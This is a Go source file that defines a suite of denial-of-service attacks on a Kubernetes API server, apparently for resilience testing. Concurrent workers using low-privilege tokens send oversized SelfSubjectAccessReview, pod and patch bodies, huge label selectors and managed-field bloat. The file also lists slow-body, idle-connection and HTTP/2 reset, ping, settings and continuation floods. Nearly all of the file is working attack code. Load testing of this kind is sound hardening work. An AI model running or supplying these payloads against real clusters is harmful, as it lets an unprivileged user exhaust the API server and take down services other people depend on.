package main

import (
	"context"
	"fmt"
	"iter"
	"maps"
	"net/http"
	"slices"
	"strings"
	"sync"
	"time"

	authorizationv1 "k8s.io/api/authorization/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/runtime/serializer/protobuf"
	"k8s.io/client-go/kubernetes/scheme"
)

// attack sends requests until its context ends. It returns the number of responses for each status.
type attack struct {
	name string
	run  func(ctx context.Context, host string) string
}

const (
	reviews    = "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews"
	own        = "/api/v1/namespaces/" + attackerNamespace + "/"
	deployment = "/apis/apps/v1/namespaces/" + attackerNamespace + "/deployments/d"

	jsonType     = "application/json"
	yamlType     = "application/yaml"
	protobufType = "application/vnd.kubernetes.protobuf"

	// largeBody is just below the maximum size of a request body, which is 3 MiB.
	largeBody = 2900 << 10
	// workers is the default number of concurrent requests of an attack.
	workers = 32
)

// attacks returns the most expensive requests that are known. The user stranger has no rights.
func attacks() []attack {
	list := strings.Repeat(`{},`, largeBody/3-200)
	return []attack{
		{"review-json", requests("stranger", workers, "POST", reviews, jsonType, func() []byte {
			return []byte(`{"apiVersion":"authorization.k8s.io/v1","kind":"SelfSubjectAccessReview",` +
				`"spec":{"resourceAttributes":{"verb":"list","resource":"pods","labelSelector":{"requirements":[` +
				list + `{}]}}}}`)
		})},
		{"review-protobuf", requests("stranger", workers, "POST", reviews, protobufType, reviewInProtobuf)},
		{"unknown-fields", requests("stranger", workers, "POST", reviews, jsonType, func() []byte {
			return []byte(`{"apiVersion":"authorization.k8s.io/v1","kind":"SelfSubjectAccessReview","spec":{},"x":[` +
				list + `{}]}`)
		})},
		{"yaml", requests("stranger", workers, "POST", reviews, yamlType, func() []byte {
			return []byte("apiVersion: authorization.k8s.io/v1\nkind: SelfSubjectAccessReview\nspec: {}\nx: [" + list +
				"{}]\n")
		})},
		{"pod-protobuf", requests("attacker", workers, "POST", own+"pods", protobufType, podInProtobuf)},
		{"pod-json", requests("attacker", workers, "POST", own+"pods", jsonType, func() []byte {
			return []byte(`{"apiVersion":"v1","kind":"Pod","metadata":{"name":"p"},"spec":{"containers":[` + list +
				`{}]}}`)
		})},
		{"strategic-merge", requests("attacker", workers, "PATCH", deployment, "application/strategic-merge-patch+json",
			elementOrder)},
		{"json-patch", requests("attacker", workers, "PATCH", own+"configmaps/large", "application/json-patch+json",
			operations)},
		{"apply", requests("attacker", workers, "PATCH", own+"configmaps/applied?fieldManager=m&force=true",
			"application/apply-patch+yaml", applied)},
		{"managed-fields", requests("attacker", workers, "PATCH", own+"configmaps/large",
			"application/merge-patch+json", managers)},
		{"selector", requests("attacker", workers, "GET", own+"configmaps?labelSelector="+selector(), jsonType, nil)},
		{"list", requests("attacker", workers, "GET", own+"configmaps", jsonType, nil)},
		{"table", requests("attacker", workers, "GET", own+"configmaps?includeObject=Object&pretty=true", jsonType,
			nil)},
		{"get-yaml", get("large", yamlType)},
		{"get-pretty", get("large?pretty=true", jsonType)},
		{"watch", watches},
		{"slow-body", slowBodies},
		{"slow-reader", slowReaders},
		{"idle", idleConnections},
		{"h2-reset", flood(reset)},
		{"h2-ping", flood(ping)},
		{"h2-settings", flood(settings)},
		{"h2-continuation", flood(continuation)},
	}
}

// prepared returns the objects that attacks read and patch. Each key is the path to which the object is posted.
func prepared() iter.Seq2[string, string] {
	return func(yield func(string, string) bool) {
		yield(own+"configmaps", `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"large"},"data":{"x":"`+
			strings.Repeat("x", 900<<10)+`"}}`)
		yield("/apis/apps/v1/namespaces/"+attackerNamespace+"/deployments",
			`{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"d"},`+
				`"spec":{"selector":{"matchLabels":{"a":"b"}},`+
				`"template":{"metadata":{"labels":{"a":"b"}},"spec":{"containers":[{"name":"c","image":"i"}]}}}}`)
		for i := range 2000 {
			yield(own+"configmaps", configMap(fmt.Sprintf("list-%d", i)))
		}
	}
}

// get returns an attack that reads a ConfigMap in a format.
func get(name, format string) func(context.Context, string) string {
	return requests("attacker", workers, "GET", own+"configmaps/"+name, format, nil)
}

// requests returns an attack that sends the same request again and again from concurrent workers.
func requests(token string, workers int, method, path, contentType string, body func() []byte) func(context.Context,
	string) string {
	return func(ctx context.Context, host string) string {
		var data []byte
		if body != nil {
			data = body()
		}
		var counts counter
		var all sync.WaitGroup
		for range workers {
			c := clientOf(token)
			all.Go(func() {
				for ctx.Err() == nil {
					code, _, err := do(ctx, c, method, "https://"+host+path, contentType, data)
					counts.add(code, err)
					if err != nil {
						pause(ctx, 100*time.Millisecond)
					}
				}
			})
		}
		all.Wait()
		return counts.String()
	}
}

// counter counts responses by status code.
type counter struct {
	mu sync.Mutex
	n  map[string]int
}

func (c *counter) add(code int, err error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.n == nil {
		c.n = map[string]int{}
	}
	if err != nil {
		c.n["broken"]++
		return
	}
	c.n[http.StatusText(code)]++
}

func (c *counter) String() string {
	c.mu.Lock()
	defer c.mu.Unlock()
	var parts []string
	for _, name := range slices.Sorted(maps.Keys(c.n)) {
		parts = append(parts, fmt.Sprintf("%s: %d", name, c.n[name]))
	}
	return strings.Join(parts, ", ")
}

func pause(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}

// encode returns obj in the protobuf encoding of Kubernetes.
func encode(obj runtime.Object) []byte {
	data, err := runtime.Encode(protobuf.NewSerializer(scheme.Scheme, scheme.Scheme), obj)
	check(err)
	return data
}

func reviewInProtobuf() []byte {
	requirements := make([]metav1.LabelSelectorRequirement, largeBody/6)
	return encode(&authorizationv1.SelfSubjectAccessReview{
		TypeMeta: metav1.TypeMeta{APIVersion: "authorization.k8s.io/v1", Kind: "SelfSubjectAccessReview"},
		Spec: authorizationv1.SelfSubjectAccessReviewSpec{ResourceAttributes: &authorizationv1.ResourceAttributes{
			Verb: "list", Resource: "pods",
			LabelSelector: &authorizationv1.LabelSelectorAttributes{Requirements: requirements},
		}},
	})
}

func podInProtobuf() []byte {
	return encode(&corev1.Pod{
		TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "Pod"}, ObjectMeta: metav1.ObjectMeta{Name: "p"},
		Spec: corev1.PodSpec{Containers: make([]corev1.Container, 30000)},
	})
}

// elementOrder returns a strategic merge patch that sets the order of more than 100,000 containers. Only one of these
// containers exists.
func elementOrder() []byte {
	var b strings.Builder
	b.WriteString(`{"spec":{"template":{"spec":{"$setElementOrder/containers":[{"name":"c"}`)
	for i := 0; b.Len() < largeBody-100; i++ {
		fmt.Fprintf(&b, `,{"name":"c%d"}`, i)
	}
	b.WriteString(`],"containers":[{"name":"c","image":"j"}]}}}}`)
	return []byte(b.String())
}

// operations returns a JSON patch with almost the maximum number of operations. Each operation copies a large value.
func operations() []byte {
	var b strings.Builder
	b.WriteString(`[{"op":"test","path":"/data/none","value":"x"}`)
	for i := range 9990 {
		fmt.Fprintf(&b, `,{"op":"copy","from":"/data","path":"/metadata/annotations/a%d"}`, i)
	}
	return []byte("[" + b.String()[len(`[{"op":"test","path":"/data/none","value":"x"},`):] + "]")
}

func applied() []byte {
	var b strings.Builder
	b.WriteString(`{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"applied"},"data":{"a":"b"`)
	for i := 0; b.Len() < 1000<<10; i++ {
		fmt.Fprintf(&b, `,"k%d":""`, i)
	}
	return []byte(b.String() + "}}")
}

// managers returns a merge patch of the maximum size that sets managed fields of many managers.
func managers() []byte {
	var b strings.Builder
	b.WriteString(`{"metadata":{"managedFields":[`)
	for i := 0; b.Len() < largeBody-300; i++ {
		fmt.Fprintf(&b, `{"manager":"m%d","operation":"Update","apiVersion":"v1","fieldsType":"FieldsV1",`+
			`"fieldsV1":{"f:data":{"f:k%d":{}}}},`, i, i)
	}
	return []byte(strings.TrimSuffix(b.String(), ",") + `]}}`)
}

// selector returns a label selector of 500 KiB.
func selector() string {
	var b strings.Builder
	b.WriteString("a+in+(x")
	for i := 0; b.Len() < 500<<10; i++ {
		fmt.Fprintf(&b, ",v%d", i)
	}
	return b.String() + ")"
}
